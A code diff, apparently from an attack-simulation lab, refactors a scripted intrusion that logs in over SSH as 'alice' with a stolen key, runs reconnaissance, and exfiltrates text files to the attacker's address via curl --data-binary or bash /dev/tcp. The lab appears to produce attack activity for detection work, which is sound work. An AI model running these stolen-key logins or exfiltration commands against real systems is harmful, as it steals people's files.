@@ -4,9 +4,9 @@
 //! ordinary request.
 
 use crate::Lab;
-use crate::life::remote::{self, OPTIONS, make_key, quoted};
+use crate::life::remote::{self, Thief, make_key};
 use crate::life::{documents, host_tasks, web};
-use crate::program::{Program, user};
+use crate::program::user;
 use anyhow::{Result, ensure};
 use std::time::Duration;
 
@@ -23,14 +23,15 @@ pub fn run(lab: &mut Lab) -> Result<()> {
     lab.wait(12..18);
 
     let attack = lab.attack("slow theft with what is there");
-    let log_in = |commands: &str| {
-        let line = format!("ssh -i /root/.ssh/stolen {OPTIONS} alice@{} {}", host.address, quoted(commands));
-        attacker.run("attack.scope", &Program::shell(&line))
-    };
+    let thief = Thief { from: &attacker, key: "/root/.ssh/stolen", account: "alice", to: &host };
     let step = attack.step("a login, and a look around", &["T1078.003", "T1083"]);
     step.remote(&host, &attacker);
-    let said =
-        log_in(&format!("{} id; ls {}; {}", step.mark(&host)?, documents::FOLDER, lab.pick(&["w", "df -h", "date"])))?;
+    let said = thief.log_in(&format!(
+        "{} id; ls {}; {}",
+        step.mark(&host)?,
+        documents::FOLDER,
+        lab.pick(&["w", "df -h", "date"])
+    ))?;
     ensure!(said.contains("plans"), "the login did not work: {said}");
     drop(step);
 
@@ -44,7 +45,7 @@ pub fn run(lab: &mut Lab) -> Result<()> {
             0 => format!("curl -s --data-binary @- http://{}/", attacker.address),
             _ => format!("bash -c \"cat > /dev/tcp/{}/80\"", attacker.address),
         };
-        log_in(&format!("{} head -c 1500 {}/{folder}/*.txt | {way}", step.mark(&host)?, documents::FOLDER))?;
+        thief.log_in(&format!("{} head -c 1500 {}/{folder}/*.txt | {way}", step.mark(&host)?, documents::FOLDER))?;
         drop(step);
         lab.wait(5..9);
     }
